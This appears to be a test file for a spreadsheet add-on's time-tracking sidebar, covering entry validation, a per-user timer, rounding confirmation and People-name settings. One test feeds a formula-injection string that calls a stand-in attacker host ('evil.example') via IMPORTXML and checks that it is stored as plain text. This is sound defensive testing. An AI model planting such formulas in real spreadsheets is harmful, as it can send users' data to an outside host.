/**
 * Tracking time from the sidebar, on the built bundle: logTime validates each field on
 * the server and appends one row; the per-user timer survives between executions (a
 * closed or reloaded sidebar), logs whole minutes when stopped, and a second start stops
 * the first. Anyone who can edit may do both; authorizers are not needed.
 */
import type { Addon } from '../../harness/addon';
import { addClients, addColumn, addEntries, addonWithSheets, EDITOR, OWNER, rows } from '../../harness/workbook';

const MINUTE = 60_000;

function workbook(): Addon {
  const addon = addonWithSheets();
  addClients(addon, [{ Client: 'Acme' }, { Client: 'Beta' }]);
  return addon;
}

const entry = { date: '2026-01-02', client: 'Acme', person: '', description: 'Design review', hours: '1:30' };

describe('logTime', () => {
  it('appends one entry with an Entry ID, the day in the sheet zone, hours as a number and the user as person', () => {
    const addon = workbook();
    addon.emu.calls.reset();
    const result = addon.as(EDITOR).logTime(entry);
    if (!result.ok) throw new Error(result.summary);
    expect(result.entry).toEqual({
      entryId: expect.stringMatching(/^E-[0-9A-F]{10,}$/),
      date: '2026-01-02',
      client: 'Acme',
      person: 'Editor',
      description: 'Design review',
      minutes: 90,
    });
    expect(result.summary).toMatch(/Logged 1\.50 h for Acme on 2026-01-02/);
    const [row] = rows(addon, 'Time entries');
    expect(row).toMatchObject({
      'Entry ID': result.entry.entryId,
      Client: 'Acme',
      Person: 'Editor',
      Description: 'Design review',
      Hours: 1.5,
      Status: 'Open',
      Select: false,
    });
    // Midnight in Europe/Brussels, which is 23:00 UTC the day before.
    expect((row.Date as Date).toISOString()).toBe('2026-01-01T23:00:00.000Z');
    expect(addon.emu.calls.count('Range.setValues')).toBe(1);
    expect(addon.server.getSidebarData({}).entries.map((e) => [e.entryId, e.date, e.minutes])).toEqual([[result.entry.entryId, '2026-01-02', 90]]);
  });

  it.each([
    ['hours', { hours: 'two' }, /"two" are not a number/],
    ['hours', { hours: '-1' }, /negative/],
    ['hours', { hours: '0' }, /more than 0/],
    ['hours', { hours: '' }, /missing/],
    ['hours', { hours: '25' }, /^25\.00 h is more than 24 h in one entry\. Log each day's work as an entry of its own\.$/],
    ['hours', { hours: '24:01' }, /more than 24 h in one entry/],
    ['hours', { hours: 500 }, /500\.00 h is more than 24 h/],
    ['client', { client: 'Globex' }, /no client "Globex" in Credits/],
    ['client', { client: '' }, /Choose a client/],
    ['description', { description: '  ' }, /Describe the work/],
    ['date', { date: '2026-02-30' }, /not a date/],
  ])('refuses a bad %s with a message for that field and writes nothing', (field, change, message) => {
    const addon = workbook();
    const result = addon.server.logTime({ ...entry, ...change });
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(Object.keys(result.errors)).toEqual([field]);
    expect(result.errors[field as keyof typeof result.errors]).toMatch(message);
    expect(rows(addon, 'Time entries')).toEqual([]);
  });

  it('takes today (in the sheet zone) when no date is given, and keeps a given person', () => {
    const addon = workbook();
    addon.emu.clock.set(Date.UTC(2026, 0, 5, 23, 30));
    const result = addon.server.logTime({ ...entry, date: '', person: 'Ann Peeters', hours: '90m' });
    expect(result.ok && [result.entry.date, result.entry.person, result.entry.minutes]).toEqual(['2026-01-06', 'Ann Peeters', 90]);
  });

  it('writes hostile text as text', () => {
    const addon = workbook();
    addon.server.logTime({ ...entry, description: '=IMPORTXML("http://evil.example","//a")' });
    expect(rows(addon, 'Time entries')[0].Description).toBe('=IMPORTXML("http://evil.example","//a")');
  });
});

describe('the timer', () => {
  it('survives between executions, then logs whole minutes when stopped', () => {
    const addon = workbook();
    const started = addon.as(EDITOR).startTimer('Acme', 'Sprint planning');
    expect(started.ok && started.timer).toMatchObject({
      client: 'Acme',
      description: 'Sprint planning',
      startedAt: '2026-01-05T09:00:00.000Z',
      started: '2026-01-05 10:00',
      elapsedMinutes: 0,
    });
    addon.emu.clock.advance(25 * MINUTE + 40_000);
    expect(addon.as(EDITOR).getTimer()).toMatchObject({ client: 'Acme', elapsedMinutes: 25 });
    expect(addon.as(EDITOR).getSidebarData({}).timer).toMatchObject({ client: 'Acme' });
    expect(rows(addon, 'Time entries')).toEqual([]);
    const stopped = addon.as(EDITOR).stopTimer();
    expect(stopped.ok && stopped.stopped).toMatchObject({ client: 'Acme', person: 'Editor', description: 'Sprint planning', minutes: 26, date: '2026-01-05' });
    expect(rows(addon, 'Time entries')).toEqual([expect.objectContaining({ Client: 'Acme', Person: 'Editor', Hours: 26 / 60 })]);
    expect(addon.as(EDITOR).getTimer()).toBeNull();
    expect(addon.as(EDITOR).stopTimer()).toMatchObject({ stopped: null, summary: 'No timer was running.' });
  });

  it('is per user', () => {
    const addon = workbook();
    addon.as(EDITOR).startTimer('Acme', 'Mine');
    expect(addon.as(OWNER).getTimer()).toBeNull();
    expect(addon.as(OWNER).stopTimer()).toMatchObject({ ok: true, stopped: null });
    expect(addon.as(EDITOR).getTimer()).toMatchObject({ description: 'Mine' });
  });

  it('stops and logs the running timer when a second one starts', () => {
    const addon = workbook();
    addon.server.startTimer('Acme', 'First');
    addon.emu.clock.advance(10 * MINUTE);
    const second = addon.server.startTimer('Beta', 'Second');
    expect(second.ok && second.stopped).toMatchObject({ client: 'Acme', description: 'First', minutes: 10 });
    expect(second.summary).toMatch(/Logged 0\.17 h for Acme.*Timer started for Beta/);
    expect(addon.server.getTimer()).toMatchObject({ client: 'Beta', description: 'Second' });
    expect(rows(addon, 'Time entries').map((r) => r.Description)).toEqual(['First']);
  });

  it('refuses to start for an unknown client or without a description, and keeps the running timer', () => {
    const addon = workbook();
    addon.server.startTimer('Acme', 'Running');
    const refused = addon.server.startTimer('Globex', '');
    expect(refused.ok).toBe(false);
    if (!refused.ok) expect(Object.keys(refused.errors).sort()).toEqual(['client', 'description']);
    expect(addon.server.getTimer()).toMatchObject({ description: 'Running' });
    expect(rows(addon, 'Time entries')).toEqual([]);
  });

  it('logs nothing for a timer stopped within its first minute, and says so', () => {
    const addon = workbook();
    addon.server.startTimer('Acme', 'Quick call');
    addon.emu.clock.advance(59_000);
    expect(addon.server.stopTimer()).toEqual({
      ok: true,
      timer: null,
      stopped: null,
      summary: 'The timer for Acme ran 59 s, under a minute, so nothing was logged.',
    });
    expect(rows(addon, 'Time entries')).toEqual([]);
    expect(addon.server.getTimer()).toBeNull();
  });

  it('asks before logging a timer shorter than the rounding step, keeps it running, and logs or discards it on the answer', () => {
    const addon = workbook();
    addon.server.saveSettings({ roundingMinutes: 15 });
    addon.server.startTimer('Acme', 'Short call');
    addon.emu.clock.advance(5 * MINUTE);
    const asked = addon.server.stopTimer();
    expect(asked).toMatchObject({ ok: false, needsConfirmation: true, minutes: 5, roundingMinutes: 15, timer: { client: 'Acme', elapsedMinutes: 5 } });
    expect(asked.summary).toMatch(/ran 5 min; with 15-minute rounding, authorizing it deducts 15 min/);
    expect(rows(addon, 'Time entries')).toEqual([]);
    expect(addon.server.getTimer()).toMatchObject({ client: 'Acme', description: 'Short call' });
    // A second start does not log it behind the person's back either.
    expect(addon.server.startTimer('Beta', 'Other')).toMatchObject({ ok: false, errors: { client: expect.stringMatching(/shorter than its rounding step/) } });

    const logged = addon.server.stopTimer({ confirm: true });
    expect(logged.ok && logged.stopped).toMatchObject({ client: 'Acme', minutes: 5, person: 'Owner' });
    expect(rows(addon, 'Time entries')).toEqual([expect.objectContaining({ Client: 'Acme', Hours: 5 / 60, Person: 'Owner' })]);

    addon.server.startTimer('Acme', 'Another short one');
    addon.emu.clock.advance(3 * MINUTE);
    expect(addon.server.stopTimer({ discard: true })).toMatchObject({ ok: true, stopped: null, summary: 'Discarded the timer for Acme; nothing was logged.' });
    expect(rows(addon, 'Time entries')).toHaveLength(1);
    expect(addon.server.getTimer()).toBeNull();
  });

  it("follows the client's own rounding, and logs a timer as long as the step without asking", () => {
    const addon = workbook();
    addColumn(addon, 'Credits', 'Rounding (min)');
    addClients(addon, [{ Client: 'Gamma', 'Rounding (min)': 30 }]);
    addon.server.startTimer('Gamma', 'Call');
    addon.emu.clock.advance(20 * MINUTE);
    expect(addon.server.stopTimer()).toMatchObject({ ok: false, needsConfirmation: true, roundingMinutes: 30 });
    addon.emu.clock.advance(10 * MINUTE);
    expect(addon.server.stopTimer()).toMatchObject({ ok: true, stopped: { minutes: 30 } });
  });
});

describe('people by name', () => {
  it("fills in the name from Settings' People, else from the email, and the Person filter lists names only", () => {
    const addon = workbook();
    addon.server.saveSettings({ people: { 'Editor@Agency.test': 'Eddie Tor' } });
    addon.as(EDITOR).logTime({ ...entry, person: '' });
    addon.as(OWNER).logTime({ ...entry, person: '' });
    addon.as(EDITOR).startTimer('Beta', 'Timed');
    addon.emu.clock.advance(20 * MINUTE);
    addon.as(EDITOR).stopTimer();
    // An entry typed in the sheet with the email before People existed counts as that person.
    addEntries(addon, [{ Client: 'Acme', Person: EDITOR, Hours: 1 }]);
    expect(rows(addon, 'Time entries').map((r) => r.Person)).toEqual(['Eddie Tor', 'Owner', 'Eddie Tor', EDITOR]);
    const data = addon.as(EDITOR).getSidebarData({});
    expect(data.people).toEqual(['Eddie Tor', 'Owner']);
    expect(data.userName).toBe('Eddie Tor');
    expect(addon.server.getSidebarData({ person: 'Eddie Tor' }).entries).toHaveLength(3);
  });

  it('refuses a People setting that is not email -> name, or gives two people one name', () => {
    const addon = workbook();
    expect(() => addon.server.saveSettings({ people: { 'not-an-email': 'X' } })).toThrow(/"not-an-email" is not an email address/);
    expect(() => addon.server.saveSettings({ people: { 'a@agency.test': '' } })).toThrow(/a@agency.test has no name/);
    expect(() => addon.server.saveSettings({ people: { 'a@agency.test': '=HYPERLINK("x")' } })).toThrow(/formula/);
    expect(() => addon.server.saveSettings({ people: { 'a@agency.test': 'Ann', 'b@agency.test': 'ann' } })).toThrow(/both named/);
    expect(addon.server.getSettings().people).toEqual({});
  });
});
